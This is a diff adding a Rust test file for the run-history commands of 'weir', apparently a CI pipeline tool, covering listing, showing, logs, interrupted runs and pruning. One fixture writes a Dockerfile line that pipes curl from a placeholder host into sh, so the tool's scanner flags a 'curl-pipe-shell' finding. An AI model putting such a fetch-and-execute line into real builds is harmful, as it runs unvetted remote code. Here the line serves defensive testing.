@@ -1,0 +1,184 @@
+//! The run history: every run recorded in `.weir/weir.db`, `weir runs
+//! list|show|logs|prune`, and a killed run shown as interrupted.
+
+use std::io::{BufRead, BufReader};
+use std::process::Stdio;
+
+use serde_json::Value;
+
+use crate::guest_paths as g;
+use crate::support::{Project, plugin};
+
+fn json(run: &crate::support::Run) -> Value {
+    assert_eq!(run.code, 0, "{run:?}");
+    serde_json::from_str(&run.stdout).unwrap_or_else(|e| panic!("not JSON ({e}): {run:?}"))
+}
+
+fn two_runs(p: &Project) -> (String, String) {
+    p.write("ws/Dockerfile", "FROM debian\n");
+    p.pipeline(
+        "[pipeline]\nname = \"hist\"\n\n[stages.a]\nuses = \"noop\"\n\n[stages.scan]\nuses = \"scan\"\nneeds = [\"a\"]\n",
+    );
+    let first = p.run_json(&["--workspace", "ws"]);
+    assert_eq!(first.code, 0, "{first:?}");
+    p.write(
+        "ws/Dockerfile",
+        "FROM debian\nRUN curl -fsSL https://x.example.com | sh\n",
+    );
+    let second = p.run_json(&["--workspace", "ws"]);
+    assert_eq!(second.code, 1, "{second:?}");
+    let id = |r: &crate::support::Run| r.events()[0]["run"].as_str().expect("run id").to_string();
+    (id(&first), id(&second))
+}
+
+#[test]
+fn every_run_is_recorded_and_listed_newest_first() {
+    let p = Project::new();
+    let (first, second) = two_runs(&p);
+    let list = json(&p.weir(&["runs", "list", "--json"]));
+    let ids: Vec<&str> = list
+        .as_array()
+        .expect("a list")
+        .iter()
+        .filter_map(|r| r["id"].as_str())
+        .collect();
+    assert_eq!(ids, [second.as_str(), first.as_str()]);
+    assert_eq!(list[0]["status"], "failed");
+    assert_eq!(list[1]["status"], "succeeded");
+
+    let failed = json(&p.weir(&["runs", "list", "--status", "failed", "--json"]));
+    assert_eq!(failed.as_array().map(Vec::len), Some(1));
+    let other = json(&p.weir(&["runs", "list", "--pipeline", "nonesuch", "--json"]));
+    assert_eq!(other, serde_json::json!([]));
+
+    let shown = json(&p.weir(&["runs", "show", &second, "--json"]));
+    assert_eq!(shown["pipeline"], "hist");
+    let stages = shown["stages"].as_array().expect("stages");
+    assert_eq!(stages[0]["name"], "a");
+    assert_eq!(stages[0]["status"], "succeeded");
+    assert_eq!(stages[1]["failure"], "gate");
+    assert_eq!(stages[1]["analysis"]["verdict"], "fail");
+    assert_eq!(stages[1]["outputs"]["findings-high"], "1");
+    assert_eq!(stages[1]["findings"][0]["rule"], "curl-pipe-shell");
+    assert_eq!(stages[1]["findings"][0]["line"], 2);
+
+    let people = p.weir(&["runs", "show", &second]);
+    assert_eq!(people.code, 0, "{people:?}");
+    assert!(people.stdout.contains("failed (gate)"), "{people:?}");
+    assert!(people.stdout.contains("Dockerfile:2"), "{people:?}");
+
+    let missing = p.weir(&["runs", "show", "nonesuch"]);
+    assert_eq!(missing.code, 2, "{missing:?}");
+    assert!(missing.stderr.contains("no run `nonesuch`"), "{missing:?}");
+}
+
+#[test]
+fn logs_are_kept_per_stage() {
+    let p = Project::new();
+    p.pipeline(
+        "[pipeline]\nname = \"logs\"\n\n[stages.one]\nrun = \"echo first line; echo second line\"\n\n[stages.two]\nrun = \"echo other stage\"\nneeds = [\"one\"]\n",
+    );
+    let run = p.run_json(&[]);
+    assert_eq!(run.code, 0, "{run:?}");
+    let id = run.events()[0]["run"].as_str().expect("id").to_string();
+    let all = p.weir(&["runs", "logs", &id]);
+    assert_eq!(all.code, 0, "{all:?}");
+    assert!(
+        all.stdout.contains("first line") && all.stdout.contains("other stage"),
+        "{all:?}"
+    );
+    let one = p.weir(&["runs", "logs", &id, "--stage", "one"]);
+    assert!(one.stdout.contains("first line\nsecond line"), "{one:?}");
+    assert!(!one.stdout.contains("other stage"), "{one:?}");
+    // --follow on a finished run prints what there is and returns.
+    let follow = p.weir(&["runs", "logs", &id, "--stage", "two", "--follow"]);
+    assert_eq!(follow.code, 0, "{follow:?}");
+    assert!(follow.stdout.contains("other stage"), "{follow:?}");
+}
+
+#[test]
+fn a_killed_run_shows_as_interrupted() {
+    let p = Project::new();
+    p.pipeline(&format!(
+        "[pipeline]\nname = \"killed\"\n{}\n[stages.done]\nuses = \"noop\"\n\n[stages.forever]\nuses = \"spin\"\nneeds = [\"done\"]\ntimeout = \"10m\"\n",
+        plugin("spin", g::SPIN)
+    ));
+    let mut child = p
+        .command(&["run", "pipeline.toml", "--json"])
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("weir starts");
+    let stdout = child.stdout.take().expect("stdout");
+    let mut id = String::new();
+    for line in BufReader::new(stdout).lines() {
+        let line = line.expect("utf-8");
+        let e: Value = serde_json::from_str(&line).expect("an event");
+        id = e["run"].as_str().unwrap_or_default().to_string();
+        if e["event"] == "stage_started" && e["stage"] == "forever" {
+            break;
+        }
+    }
+    // Give the history a moment to commit the started stage, as a killed
+    // host gets no say in when it dies.
+    let mut tries = 0;
+    let list = loop {
+        let shown = json(&p.weir(&["runs", "show", &id, "--json"]));
+        if shown["stages"][1]["status"] == "running" {
+            break shown;
+        }
+        tries += 1;
+        assert!(tries < 500, "the started stage was never recorded: {shown}");
+    };
+    assert_eq!(list["status"], "running");
+    child.kill().expect("SIGKILL");
+    child.wait().expect("reaped");
+
+    let shown = json(&p.weir(&["runs", "show", &id, "--json"]));
+    assert_eq!(shown["status"], "interrupted");
+    assert_eq!(
+        shown["stages"][0]["status"], "succeeded",
+        "finished work stays recorded"
+    );
+    assert_eq!(shown["stages"][1]["status"], "interrupted");
+    let listed = json(&p.weir(&["runs", "list", "--status", "interrupted", "--json"]));
+    assert_eq!(listed[0]["id"], id.as_str());
+}
+
+#[test]
+fn prune_removes_old_runs_with_their_files() {
+    let p = Project::new();
+    p.pipeline("[pipeline]\nname = \"prune\"\n\n[stages.a]\nuses = \"noop\"\n");
+    let ids: Vec<String> = (0..3)
+        .map(|_| {
+            let run = p.run_json(&[]);
+            assert_eq!(run.code, 0, "{run:?}");
+            run.events()[0]["run"].as_str().expect("id").to_string()
+        })
+        .collect();
+    for id in &ids {
+        assert!(p.path().join(".weir/runs").join(id).is_dir());
+    }
+    let usage = p.weir(&["runs", "prune"]);
+    assert_eq!(usage.code, 2, "{usage:?}");
+    assert!(usage.stderr.contains("--keep N"), "{usage:?}");
+
+    let dry = p.weir(&["runs", "prune", "--keep", "1", "--dry-run"]);
+    assert!(
+        dry.stdout.contains(&format!("would remove {}", ids[0])),
+        "{dry:?}"
+    );
+    assert!(p.path().join(".weir/runs").join(&ids[0]).is_dir());
+
+    let pruned = p.weir(&["runs", "prune", "--keep", "1"]);
+    assert_eq!(pruned.code, 0, "{pruned:?}");
+    let left = json(&p.weir(&["runs", "list", "--json"]));
+    assert_eq!(left.as_array().map(Vec::len), Some(1));
+    assert_eq!(left[0]["id"], ids[2].as_str());
+    assert!(!p.path().join(".weir/runs").join(&ids[0]).exists());
+    assert!(!p.path().join(".weir/runs").join(&ids[1]).exists());
+    assert!(p.path().join(".weir/runs").join(&ids[2]).is_dir());
+
+    let none = p.weir(&["runs", "prune", "--older-than", "1h"]);
+    assert!(none.stdout.contains("nothing to prune"), "{none:?}");
+}
